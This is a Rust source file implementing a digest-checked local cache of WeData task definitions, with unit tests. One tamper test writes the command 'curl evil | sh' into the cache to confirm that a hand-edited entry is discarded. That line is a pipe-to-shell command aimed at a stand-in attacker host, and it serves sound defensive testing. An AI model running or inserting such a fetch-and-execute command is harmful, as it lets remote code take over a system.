//! A local cache of live task definitions, so a plan with no remote changes needs only the
//! list calls. An entry is used only while the task's workflow, LastUpdateTime and latest
//! version (all returned by ListTriggerTasks and ListTasks) are what they were when it was
//! stored; every save in WeData bumps the version, so a stale entry is never served.
//!
//! It lives under the project (`.wedata/cache/`, private to its owner and ignored by git), one
//! file per WeData service and project. A corrupt file is discarded with a warning;
//! `--refresh=full` bypasses it.
//!
//! **Portable.** Nothing in a file's name or content belongs to this machine or checkout: the
//! name hashes the project id and the service's [`source`] (the endpoint's scheme, host and
//! port; every emulator is `emulator`), the content is what WeData answered, keyed by TaskId.
//! So CI can restore a cache saved by another runner in another directory (see docs/ci.md),
//! and a restored cache that is stale in part still serves every entry that is not.
//!
//! The cache is a hint, never a source of writes: each entry carries a digest of its content,
//! checked when it is served (an entry edited by hand, or damaged, is discarded and counted),
//! and whatever `apply` is about to write over is read fresh from WeData first
//! (`planner::approve`). A digest is not a signature: someone who can write the cache can
//! write a matching digest; what stops them is the fresh read. An entry from another WeData
//! (another account, another emulator) is not served either: its TaskId, WorkflowId,
//! LastUpdateTime and version would all have to match a task of this one.

use std::collections::HashMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use super::{LiveDefinition, LiveWorkflowDetail};

/// Bumped whenever the stored shapes change; an older file is simply started afresh.
const CACHE_VERSION: u32 = 4;

/// The [`source`] of every emulator: the embedded one (`--emulate`, whose state file may lie
/// anywhere) and any endpoint on the loopback range (whose port changes every run).
pub const EMULATOR_SOURCE: &str = "emulator";

/// What a cache file belongs to, without anything of this machine: [`EMULATOR_SOURCE`] for an
/// endpoint on the loopback range, else the endpoint's scheme, host and port (lower case,
/// default port and path dropped). Anything that is not a URL stays as it is.
pub fn source(endpoint: &str) -> String {
    if endpoint == EMULATOR_SOURCE {
        return endpoint.to_owned();
    }
    let Ok(url) = reqwest::Url::parse(endpoint) else {
        return endpoint.to_owned();
    };
    let Some(host) = url.host_str() else {
        return endpoint.to_owned();
    };
    if crate::api::is_loopback(&url) {
        return EMULATOR_SOURCE.to_owned();
    }
    match url.port() {
        Some(port) => format!("{}://{host}:{port}", url.scheme()),
        None => format!("{}://{host}", url.scheme()),
    }
}

#[derive(Debug, Clone, Serialize, Deserialize)]
struct CachedTask {
    /// The task's workflow when stored: TaskIds of independent emulators can coincide, their
    /// WorkflowIds (UUIDs) cannot.
    workflow_id: String,
    last_update_time: String,
    latest_version: String,
    task: LiveDefinition,
    code: String,
    /// SHA-256 of the members above (see [`task_digest`]).
    digest: String,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
struct CachedWorkflow {
    modify_time: String,
    detail: LiveWorkflowDetail,
    /// SHA-256 of the members above (see [`workflow_digest`]).
    digest: String,
}

fn task_digest(
    workflow_id: &str,
    last_update_time: &str,
    latest_version: &str,
    task: &LiveDefinition,
    code: &str,
) -> String {
    let bytes = serde_json::to_vec(&(workflow_id, last_update_time, latest_version, task, code))
        .expect("API types serialize");
    hex::encode(Sha256::digest(bytes))
}

fn workflow_digest(modify_time: &str, detail: &LiveWorkflowDetail) -> String {
    let bytes = serde_json::to_vec(&(modify_time, detail)).expect("API types serialize");
    hex::encode(Sha256::digest(bytes))
}

/// What the task lists say of a task, which a cached definition must still match.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Listed {
    pub workflow_id: String,
    pub last_update_time: String,
    pub latest_version: String,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct CacheFile {
    version: u32,
    tasks: HashMap<String, CachedTask>,
    #[serde(default)]
    workflows: HashMap<String, CachedWorkflow>,
}

#[derive(Debug)]
pub struct DefinitionCache {
    path: PathBuf,
    file: CacheFile,
    changed: bool,
    /// Entries dropped because their content no longer matched their digest.
    discarded: usize,
}

impl DefinitionCache {
    /// The cache file under `root` for one project of the WeData at `endpoint` (an endpoint
    /// URL or [`EMULATOR_SOURCE`]; only its [`source`] counts).
    pub fn path_for(root: &Path, endpoint: &str, project_id: &str) -> PathBuf {
        let key = hex::encode(Sha256::digest(
            format!("{}\n{project_id}", source(endpoint)).as_bytes(),
        ));
        crate::local_folder::path(root)
            .join("cache")
            .join(format!("{}.json", &key[..16]))
    }

    /// Loads the cache; a missing file is an empty cache, a corrupt one is discarded and the
    /// returned warning says so.
    pub fn load(path: PathBuf) -> (Self, Option<String>) {
        let empty = |path: PathBuf| Self {
            path,
            file: CacheFile {
                version: CACHE_VERSION,
                ..CacheFile::default()
            },
            changed: false,
            discarded: 0,
        };
        match crate::local_folder::read_json_cache(&path, |file: &CacheFile| {
            file.version == CACHE_VERSION
        }) {
            Ok(Some(file)) => (
                Self {
                    path,
                    file,
                    changed: false,
                    discarded: 0,
                },
                None,
            ),
            Ok(None) => (empty(path), None),
            Err(error) => {
                let warning = format!(
                    "warning: the plan cache {} is unreadable ({error}); discarding it and reading everything from WeData",
                    path.display()
                );
                (empty(path), Some(warning))
            }
        }
    }

    /// How many task definitions and workflow details the cache holds (for `doctor`).
    pub fn entry_counts(&self) -> (usize, usize) {
        (self.file.tasks.len(), self.file.workflows.len())
    }

    /// Drops every entry, so everything is read again (and stored afresh).
    pub fn forget_all(&mut self) {
        self.changed |= !self.file.tasks.is_empty() || !self.file.workflows.is_empty();
        self.file.tasks.clear();
        self.file.workflows.clear();
    }

    /// How many entries were discarded so far because they did not match their digest.
    pub fn discarded(&self) -> usize {
        self.discarded
    }

    /// The warning to print when entries were discarded, if any.
    pub fn discarded_warning(&self) -> Option<String> {
        (self.discarded > 0).then(|| {
            format!(
                "warning: {} {} of the plan cache {} did not match {} digest and {} discarded; \
                 {} read from WeData instead",
                self.discarded,
                if self.discarded == 1 {
                    "entry"
                } else {
                    "entries"
                },
                self.path.display(),
                if self.discarded == 1 { "its" } else { "their" },
                if self.discarded == 1 { "was" } else { "were" },
                if self.discarded == 1 {
                    "it was"
                } else {
                    "they were"
                },
            )
        })
    }

    /// A workflow's detail, while its ModifyTime (from ListTriggerWorkflows) is unchanged and
    /// the entry matches its digest.
    pub fn get_workflow(
        &mut self,
        workflow_id: &str,
        modify_time: &str,
    ) -> Option<LiveWorkflowDetail> {
        let entry = self
            .file
            .workflows
            .get(workflow_id)
            .filter(|entry| !modify_time.is_empty() && entry.modify_time == modify_time)?;
        if workflow_digest(&entry.modify_time, &entry.detail) != entry.digest {
            self.file.workflows.remove(workflow_id);
            self.discarded += 1;
            self.changed = true;
            return None;
        }
        Some(entry.detail.clone())
    }

    /// Drops one task's entry (apply found it differs from WeData).
    pub fn forget(&mut self, task_id: &str) {
        self.changed |= self.file.tasks.remove(task_id).is_some();
    }

    /// Drops one workflow's entry.
    pub fn forget_workflow(&mut self, workflow_id: &str) {
        self.changed |= self.file.workflows.remove(workflow_id).is_some();
    }

    pub fn put_workflow(
        &mut self,
        workflow_id: &str,
        modify_time: &str,
        detail: &LiveWorkflowDetail,
    ) {
        self.file.workflows.insert(
            workflow_id.to_owned(),
            CachedWorkflow {
                modify_time: modify_time.to_owned(),
                detail: detail.clone(),
                digest: workflow_digest(modify_time, detail),
            },
        );
        self.changed = true;
    }

    /// A task's definition and code, while its workflow, LastUpdateTime and latest version
    /// are the listed ones and the entry matches its digest.
    pub fn get(&mut self, task_id: &str, listed: &Listed) -> Option<(LiveDefinition, String)> {
        let entry = self.file.tasks.get(task_id).filter(|entry| {
            entry.workflow_id == listed.workflow_id
                && entry.last_update_time == listed.last_update_time
                && entry.latest_version == listed.latest_version
        })?;
        let digest = task_digest(
            &entry.workflow_id,
            &entry.last_update_time,
            &entry.latest_version,
            &entry.task,
            &entry.code,
        );
        if digest != entry.digest {
            self.file.tasks.remove(task_id);
            self.discarded += 1;
            self.changed = true;
            return None;
        }
        Some((entry.task.clone(), entry.code.clone()))
    }

    pub fn put(&mut self, task_id: &str, listed: &Listed, task: &LiveDefinition, code: &str) {
        self.file.tasks.insert(
            task_id.to_owned(),
            CachedTask {
                workflow_id: listed.workflow_id.clone(),
                last_update_time: listed.last_update_time.clone(),
                latest_version: listed.latest_version.clone(),
                task: task.clone(),
                code: code.to_owned(),
                digest: task_digest(
                    &listed.workflow_id,
                    &listed.last_update_time,
                    &listed.latest_version,
                    task,
                    code,
                ),
            },
        );
        self.changed = true;
    }

    /// Writes the cache atomically (owner-only) when it changed. Failing to write only costs
    /// speed.
    pub fn save(&self) {
        if !self.changed {
            return;
        }
        crate::local_folder::save_json_cache(&self.path, &self.file);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::api::types::TriggerTask;

    fn listed(workflow_id: &str, last_update_time: &str, latest_version: &str) -> Listed {
        Listed {
            workflow_id: workflow_id.to_owned(),
            last_update_time: last_update_time.to_owned(),
            latest_version: latest_version.to_owned(),
        }
    }

    #[test]
    fn entries_are_served_only_while_workflow_time_and_version_match() {
        let directory = tempfile::tempdir().unwrap();
        let path = directory.path().join("cache.json");
        let (mut cache, warning) = DefinitionCache::load(path.clone());
        assert!(warning.is_none());
        cache.put(
            "1",
            &listed("w1", "t1", "V1"),
            &LiveDefinition::Trigger(TriggerTask::default()),
            "echo 1",
        );
        cache.save();
        let (mut cache, _) = DefinitionCache::load(path);
        assert_eq!(
            cache
                .get("1", &listed("w1", "t1", "V1"))
                .map(|(_, code)| code)
                .as_deref(),
            Some("echo 1")
        );
        assert!(cache.get("1", &listed("w1", "t1", "V2")).is_none());
        assert!(cache.get("1", &listed("w1", "t2", "V1")).is_none());
        assert!(cache.get("2", &listed("w1", "t1", "V1")).is_none());
        // Another emulator's task with the same TaskId, time and version.
        assert!(cache.get("1", &listed("w2", "t1", "V1")).is_none());
    }

    #[test]
    fn a_corrupt_cache_is_discarded_with_a_warning() {
        let directory = tempfile::tempdir().unwrap();
        let path = directory.path().join("cache.json");
        std::fs::write(&path, "{not json").unwrap();
        let (mut cache, warning) = DefinitionCache::load(path);
        assert!(warning.unwrap().contains("discarding"));
        assert!(cache.get("1", &listed("w1", "t", "V1")).is_none());
    }

    /// A hand-edited entry (here: an ext key added to the definition, as an attacker with
    /// write access to a restored CI cache would) is not served, and is counted.
    #[test]
    fn an_entry_edited_by_hand_is_discarded_with_a_warning() {
        let directory = tempfile::tempdir().unwrap();
        let path = directory.path().join("cache.json");
        let (mut cache, _) = DefinitionCache::load(path.clone());
        cache.put(
            "1",
            &listed("w1", "t1", "V1"),
            &LiveDefinition::Trigger(TriggerTask::default()),
            "echo 1",
        );
        cache.save();
        let text = std::fs::read_to_string(&path).unwrap();
        let edited = text.replace("echo 1", "curl evil | sh");
        assert_ne!(text, edited);
        std::fs::write(&path, edited).unwrap();
        let (mut cache, warning) = DefinitionCache::load(path);
        assert!(warning.is_none());
        assert!(cache.get("1", &listed("w1", "t1", "V1")).is_none());
        assert_eq!(cache.discarded(), 1);
        assert!(
            cache
                .discarded_warning()
                .unwrap()
                .contains("did not match its digest")
        );
    }

    #[test]
    fn each_service_and_project_has_its_own_file() {
        let root = Path::new("/project");
        let real = DefinitionCache::path_for(root, "https://wedata.tencentcloudapi.com", "1");
        let emulated = DefinitionCache::path_for(root, "http://127.0.0.1:9", "1");
        let other_project =
            DefinitionCache::path_for(root, "https://wedata.tencentcloudapi.com", "2");
        assert_ne!(real, emulated);
        assert_ne!(real, other_project);
        assert!(real.starts_with("/project/.wedata/cache"));
    }

    /// The file's name holds nothing of this machine or checkout: CI restores it on another
    /// runner, in another directory, and talks to an emulator on another port.
    #[test]
    fn the_cache_file_name_is_the_same_on_every_machine_and_checkout() {
        let name = |root: &str, endpoint: &str| {
            DefinitionCache::path_for(Path::new(root), endpoint, "1460947878944567296")
                .strip_prefix(root)
                .unwrap()
                .to_owned()
        };
        let here = name("/home/me/repo", "https://wedata.tencentcloudapi.com");
        assert_eq!(
            here,
            name(
                "/builds/runner-7/repo",
                "https://WeData.tencentcloudapi.com:443/"
            )
        );
        let emulator = name("/home/me/repo", EMULATOR_SOURCE);
        for endpoint in [
            "http://127.0.0.1:41234",
            "http://localhost:9",
            "http://[::1]:80",
        ] {
            assert_eq!(name("/tmp/checkout", endpoint), emulator, "{endpoint}");
        }
        assert_ne!(here, emulator);
        assert_eq!(
            source("https://wedata.ap-guangzhou.tencentcloudapi.com/x?y"),
            "https://wedata.ap-guangzhou.tencentcloudapi.com"
        );
        assert_eq!(source("https://10.0.0.8:8443"), "https://10.0.0.8:8443");
    }

    /// What a cache file holds is WeData's answers keyed by ids: no path of this checkout, no
    /// host name, no endpoint.
    #[test]
    fn a_cache_file_holds_no_path_or_host_data() {
        let directory = tempfile::tempdir().unwrap();
        let root = directory.path();
        let path = DefinitionCache::path_for(root, "http://127.0.0.1:41234", "1");
        let (mut cache, _) = DefinitionCache::load(path.clone());
        cache.put(
            "1",
            &listed("w1", "t1", "V1"),
            &LiveDefinition::Trigger(TriggerTask::default()),
            "echo 1",
        );
        cache.save();
        let text = std::fs::read_to_string(&path).unwrap();
        let root_text = root.display().to_string();
        for machine_data in [root_text.as_str(), "127.0.0.1", "41234", "emulator"] {
            assert!(!text.contains(machine_data), "{machine_data} in {text}");
        }
    }
}
